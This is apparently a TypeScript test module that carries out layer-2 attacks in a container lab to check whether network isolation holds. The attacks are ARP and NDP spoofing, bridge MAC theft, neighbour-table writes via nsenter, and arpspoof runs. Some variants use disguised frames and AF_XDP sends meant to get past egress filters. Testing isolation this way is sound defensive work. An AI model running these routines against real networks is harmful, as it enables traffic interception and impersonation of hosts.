import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { arpFrames, localFrames, ndFrames, stealFrames, INVENTED, type Frame } from '../../../src/core/reach/frames.js';
import { toNumber } from '../../../src/core/reach/filter/truth.js';
import type { Technique } from '../../../src/core/reach/types.js';
import { tryRun, until, type Ran } from '../run.js';
import { bytesOf } from '../../../src/core/reach/bytes.js';
import type { Place, Stage } from './stage.js';

/** What an attack came to. `by`: how it worked. `heard`: whether the victim's packets came to the attacker; null where not measured. */
export interface Outcome {
  readonly worked: boolean;
  readonly by: string;
  readonly heard: boolean | null;
}

/** By hand, where many are tried on a busy machine. */
const QUICK = process.env['BULKHEAD_QUICK'] === '1';
/** Forms that differ from others in what only few rules look at. */
const RARE = /third|by broadcast|all nodes/;
const WRITTEN = '02:bd:00:be:ef:02';
/** Of a vendor's range, and a group that nobody uses: chosen where rules name others. */
const VENDORS = '52:54:00:be:ef:04';
const GROUP = '03:bd:00:be:ef:05';
const SENDER = '/sender.pl';
/** The same on this machine: what only measures is run from outside. */
const SOURCE = fileURLToPath(new URL('./sender.pl', import.meta.url));
const sleep = (ms: number) => new Promise((wake) => setTimeout(wake, ms));
const inNet = (p: Place, command: readonly string[]) => tryRun(['nsenter', `--net=/proc/${p.pid}/ns/net`, ...command]);

/** Runs a command with the rights of the attacker's process. */
function asAttacker(s: Stage, command: readonly string[], input = ''): Promise<Ran> {
  return s.lab.tryDocker(['exec', '-i', ...(s.scenario.exec ?? []), s.A.container, ...(s.scenario.wrap ?? []), ...command], { input, timeout: 30_000 });
}

/** The MAC that the victim's table holds for an address, `''` for none. */
async function entry(s: Stage, six: boolean): Promise<string> {
  if (!six) {
    const line = readFileSync(`/proc/${s.victim.pid}/net/arp`, 'utf8').split('\n').find((l) => l.startsWith(`${s.target.ip} `) && l.trimEnd().endsWith(` ${s.victim.iface}`));
    return line?.split(/\s+/)[3] ?? '';
  }
  const ran = await inNet(s.victim, ['ip', '-6', '-j', 'neigh', 'show', 'dev', s.victim.iface]);
  const list = ran.stdout.startsWith('[') ? (JSON.parse(ran.stdout) as { readonly dst: string; readonly lladdr?: string }[]) : [];
  const mine = list.filter((e) => e.dst === s.target.ip6 || e.dst === s.target.local6).map((e) => e.lladdr ?? '');
  return mine.find((mac) => forged(s, mac)) ?? mine[0] ?? '';
}

const forged = (s: Stage, mac: string): boolean => mac !== '' && mac !== s.target.mac && [s.A.mac, INVENTED, WRITTEN, VENDORS].includes(mac);

/** A table as it is in ordinary life: the victim has just spoken with the one who will be impersonated. */
async function ordinary(s: Stage, six: boolean): Promise<void> {
  await inNet(s.victim, ['ip', six ? '-6' : '-4', 'neigh', 'flush', 'dev', s.victim.iface]);
  const to = six ? s.target.ip6 : s.target.ip;
  if (to === '') return;
  await inNet(s.victim, ['busybox', 'ping', ...(six ? ['-6'] : []), '-c', '1', '-W', '1', to]);
}

interface Sent {
  readonly worked: boolean;
  readonly by: string;
  /** Whether any door to the wire opened: where none does, sending once more says all. */
  readonly opened: boolean;
}

const DOORS = ['packet', 'old', 'wide', 'xdp', 'ring', 'call32', 'dgram'];
/** AF_XDP first: it goes past what stands on the way out. */
const PAST = ['xdp', ...DOORS];

/** Sends frames through the first door that opens, and looks at the table meanwhile. */
async function send(s: Stage, frames: readonly Frame[], rounds: number, took: () => Promise<boolean>, doors: readonly string[] = DOORS): Promise<Sent> {
  const input = `${frames.map(bytesOf).join('\n')}\n`;
  for (const door of doors) {
    let ended: Ran | null = null;
    const sending = asAttacker(s, ['perl', SENDER, 'send', String(s.allowed), s.A.iface, door, String(rounds)], input).then((ran) => (ended = ran));
    let worked = false;
    while (ended === null && !worked) {
      worked = await took();
      if (!worked) await sleep(30);
    }
    const ran = await sending;
    if (ran.stderr.includes('refused')) throw new Error(ran.stderr);
    worked ||= await until(took, 150, 30);
    if (worked) return { worked, by: door, opened: true };
    if (ran.code === 0) return { worked: false, by: '', opened: true };
  }
  return { worked: false, by: '', opened: false };
}

const untagged = (f: Frame): boolean => f.tags.length === 0 && f.source !== INVENTED && !(f.body.kind === 'arp' && (f.body.hardware === 6 || f.body.senderMac === INVENTED));

async function spoof(s: Stage, six: boolean): Promise<{ readonly worked: boolean; readonly by: string }> {
  const end = (p: Place) => ({ mac: p.mac, ip: six ? p.ip6 : p.ip });
  const took = async () => forged(s, await entry(s, six));
  if (s.A.mac !== '' && end(s.target).ip !== '' && end(s.victim).ip !== '') {
    const own = s.A.ip6 === '' ? null : s.A.ip6;
    const local = { mac: s.target.mac, ip: s.target.local6 };
    const tags = (s.scenario.tags ?? []).map((id) => [{ protocol: 0x8100 as const, id }]);
    const ways = { own, router: s.scenario.victim === 'host', tags };
    const all = six ? [...ndFrames(end(s.A), end(s.victim), end(s.target), ways), ...(local.ip === '' ? [] : ndFrames(end(s.A), end(s.victim), local, ways))] : [...arpFrames(end(s.A), end(s.victim), end(s.target), tags)];
    if (s.scenario.chosen === true && !six) {
      const asked = [s.gateway.ip, s.target.ip];
      for (const f of all.filter(untagged)) if (f.body.kind === 'arp') for (const targetIp of asked) for (const source of [f.source, s.V.mac]) all.push({ ...f, source, body: { ...f.body, targetIp } });
      for (const f of all.filter(untagged)) if (f.body.kind === 'arp' && f.body.targetIp === s.victim.ip) all.push({ ...f, destination: GROUP }, { ...f, length: 200 }, { ...f, body: { ...f.body, senderMac: VENDORS } });
    }
    const sent = s.scenario.chosen === true ? all : all.filter((f) => !RARE.test(f.name));
    const plain = sent.filter(untagged);
    let shut = 0;
    // Where it is to fail, all at once: what is plain is among all. AF_XDP differs on its way out alone.
    const past = /egress/.test(JSON.stringify(s.scenario.before ?? []));
    const kept = s.scenario.kept === true ? [[plain, 20, ['kept']] as const] : [];
    const tries = [...kept, [plain, 3, DOORS] as const, ...(s.scenario.works ? [[plain, QUICK ? 6 : 20, DOORS] as const] : []), [sent, QUICK ? 3 : 20, DOORS] as const, ...(past ? [[sent, 10, PAST] as const] : [])];
    for (const [frames, rounds, doors] of tries) {
      if (shut === (s.scenario.works ? 2 : 1)) break;
      await ordinary(s, six);
      // A lock lets in whom it has heard of.
      const tried = await send(s, [...[s.A.mac, INVENTED].flatMap((mac) => [...localFrames(mac)].slice(0, 3)), ...frames], rounds, took, doors);
      if (!tried.opened && doors !== kept[0]?.[2]) shut++;
      if (tried.worked) return { worked: true, by: `${tried.by}${frames === plain || doors === PAST ? '' : ', in disguise'}` };
    }
  }
  await ordinary(s, six);
  for (const by of six ? [() => advertise(s), () => takeAddress(s, true)] : [() => takeAddress(s, false)]) {
    const how = await by();
    if (await until(took, 300, 30)) return { worked: true, by: how };
  }
  // The kernel asks for the victim only where it does not know it already: by chance it may.
  for (let again = 0; s.scenario.works && again < 3; again++) {
    if (!(await speak(s, six))) break;
    if (await until(took, 300, 30)) return { worked: true, by: 'the address taken' };
  }
  return { worked: false, by: '' };
}

/** A raw IPv6 socket: the kernel makes the frame. */
async function advertise(s: Stage): Promise<string> {
  if (s.victim.ip6 === '' || s.target.ip6 === '' || s.A.mac === '') return '';
  const hex = (ip: string) => (toNumber(ip) ?? 0n).toString(16).padStart(32, '0');
  const message = (to: string): string => `88000000${to === 'ff02::1' ? '2' : '6'}0000000${hex(s.target.ip6)}0201${s.A.mac.replaceAll(':', '')}`;
  for (const to of [s.victim.ip6, 'ff02::1']) await asAttacker(s, ['perl', SENDER, 'advertise', String(s.allowed), s.A.iface, hex(to), '26', message(to)]);
  return 'raw IPv6 socket';
}

/** Takes the address and speaks from it: the kernel itself asks for the victim in that name. */
async function takeAddress(s: Stage, six: boolean): Promise<string> {
  const taken = await asAttacker(s, six ? ['perl', SENDER, 'take6', String(s.allowed), s.A.iface, s.target.ip6] : ['ip', 'addr', 'add', `${s.target.ip}/32`, 'dev', s.A.iface]);
  if (taken.code !== 0) return '';
  await speak(s, six);
  return 'the address taken';
}

async function speak(s: Stage, six: boolean): Promise<boolean> {
  await inNet(s.A, ['ip', six ? '-6' : '-4', 'neigh', 'flush', 'dev', s.A.iface]);
  const ran = await asAttacker(s, ['perl', SENDER, 'speak', String(s.allowed), s.A.iface, six ? s.target.ip6 : s.target.ip, six ? s.victim.ip6 : s.victim.ip, '6']);
  return ran.code === 0;
}

async function portOf(s: Stage, mac: string): Promise<string> {
  const ran = await s.lab.inNet(['bridge', '-j', 'fdb', 'show', 'br', s.bridge]);
  const list = ran.stdout.startsWith('[') ? (JSON.parse(ran.stdout) as { readonly mac: string; readonly ifname: string; readonly master?: string; readonly state?: string }[]) : [];
  return list.find((e) => e.mac === mac && e.master === s.bridge && e.state !== 'permanent')?.ifname ?? '';
}

/** Whether a frame of the victim to the stolen MAC lands at the attacker. */
async function lands(s: Stage): Promise<boolean> {
  const mac = s.target.mac.replaceAll(':', '');
  const catching = inNet(s.A, ['perl', SOURCE, 'catch', String(s.allowed), s.A.iface, mac, '2']);
  const frame: Frame = { source: s.victim.mac, destination: s.target.mac, tags: [], body: { kind: 'other' }, name: '' };
  let ended = false;
  void catching.then(() => (ended = true));
  for (let n = 0; n < 12 && !ended; n++) {
    await tryRun(['nsenter', `--net=/proc/${s.victim.pid}/ns/net`, 'perl', SOURCE, 'send', String(s.victimNet), s.victim.iface, 'packet', '1'], { input: `${bytesOf(frame)}\n` });
    await sleep(100);
  }
  return (await catching).stdout.includes('heard');
}

/** Its owner takes it back as soon as it speaks by itself: where the attack is to work it is tried again. */
async function steal(s: Stage): Promise<{ readonly worked: boolean; readonly by: string }> {
  // Its owner speaks first, so that the bridge has it where it belongs.
  await ordinary(s, false);
  if (s.A.port !== '' && (await portOf(s, s.target.mac)) === s.A.port) throw new Error(`the bridge has ${s.target.mac} at the attacker's port before the attack`);
  for (let tries = 1; ; tries++) {
    const done = await stealOnce(s);
    if (done.worked || !s.scenario.works || tries === 3) return done;
    await ordinary(s, false);
  }
}

async function stealOnce(s: Stage): Promise<{ readonly worked: boolean; readonly by: string }> {
  const took = async () => s.A.port !== '' && (await portOf(s, s.target.mac)) === s.A.port;
  for (const rounds of [3, 12]) {
    const own = [...stealFrames({ mac: s.A.mac, ip: s.A.ip }, { mac: s.target.mac, ip: s.target.ip })];
    const more = s.scenario.chosen !== true ? [] : own.filter((f) => f.tags.length === 0).flatMap((f): Frame[] => [{ ...f, destination: s.gateway.mac }, { ...f, tags: [{ protocol: 0x8100, id: 10 }] }, ...(f.body.kind === 'other' ? [{ ...f, type: 0x88cc }] : [])]);
    const tried = await send(s, [...own, ...more, ...localFrames(s.target.mac)], rounds, took, s.scenario.kept === true ? [...DOORS, 'kept'] : DOORS);
    if (tried.worked) return (await lands(s)) ? tried : { worked: false, by: 'moved, but nothing lands' };
  }
  if ((await asAttacker(s, ['perl', SENDER, 'become', String(s.allowed), s.A.iface, s.target.mac.replaceAll(':', '')])).code !== 0) return { worked: false, by: '' };
  await asAttacker(s, ['perl', SENDER, 'speak', String(s.allowed), s.A.iface, s.A.ip, s.victim.ip, '4']);
  return (await until(took, 300, 30)) && (await lands(s)) ? { worked: true, by: 'the MAC taken' } : { worked: false, by: '' };
}

async function write(s: Stage): Promise<{ readonly worked: boolean; readonly by: string }> {
  const shared = s.scenario.victim === 'donor';
  const pid = s.scenario.A?.some((a) => a.startsWith('container:')) === true ? 1 : s.victim.pid;
  const arp = ['arp', '-s', s.target.ip, WRITTEN];
  const { door } = s.scenario;
  const found = `for f in ${door ?? ''}; do [ "$(stat -c %i $f)" = ${s.victimNet} ] && nsenter --net=$f ${arp.join(' ')}; done`;
  await asAttacker(s, shared ? arp : door === undefined ? ['nsenter', '-t', String(pid), '-n', ...arp] : ['sh', '-c', found]);
  return { worked: await until(async () => forged(s, await entry(s, false)), 200, 30), by: shared ? 'the table they share' : door === undefined ? 'nsenter' : 'nsenter by a file' };
}

/** Where the victim's packets to the impersonated address go, while the attacker goes on saying that it is the one. */
async function hears(s: Stage): Promise<boolean> {
  const end = (p: Place) => ({ mac: p.mac, ip: p.ip });
  const frames = [...arpFrames(end(s.A), end(s.victim), end(s.target))].filter(untagged).map(bytesOf).join('\n');
  const saying = asAttacker(s, ['perl', SENDER, 'send', String(s.allowed), s.A.iface, 'packet', '60'], `${frames}\n`);
  const hearing = inNet(s.A, ['perl', SOURCE, 'hear', String(s.allowed), s.A.iface, s.target.ip, '3']);
  let done = false;
  void hearing.then(() => (done = true));
  for (let n = 0; n < 6 && !done; n++) {
    await sleep(300);
    await inNet(s.victim, ['busybox', 'ping', '-c', '1', '-W', '1', s.target.ip]);
  }
  const heard = (await hearing).stdout.includes('heard');
  await saying;
  return heard;
}

async function withArpspoof(s: Stage): Promise<boolean> {
  await ordinary(s, false);
  const running = asAttacker(s, ['timeout', '-s', 'KILL', '3', 'arpspoof', '-i', s.A.iface, '-t', s.victim.ip, s.target.ip]);
  const worked = await until(async () => (await entry(s, false)) === s.A.mac, 4_000, 50);
  await running;
  return worked;
}

/** Attacks for real, with everything that this lab has for a technique. */
export async function attack(s: Stage, technique: Technique): Promise<Outcome> {
  if (technique === 'table-write') return { ...(await write(s)), heard: null };
  if (technique === 'mac-steal') return { ...(await steal(s)), heard: null };
  const six = technique === 'ndp-spoof';
  const done = await spoof(s, six);
  const tool = done.worked && s.scenario.arpspoof === true && !six ? await withArpspoof(s) : null;
  const heard = done.worked && s.scenario.reads === true && !six ? await hears(s) : null;
  return { worked: done.worked, by: `${done.by}${tool === null ? '' : tool ? ', arpspoof' : ', not arpspoof'}`, heard };
}
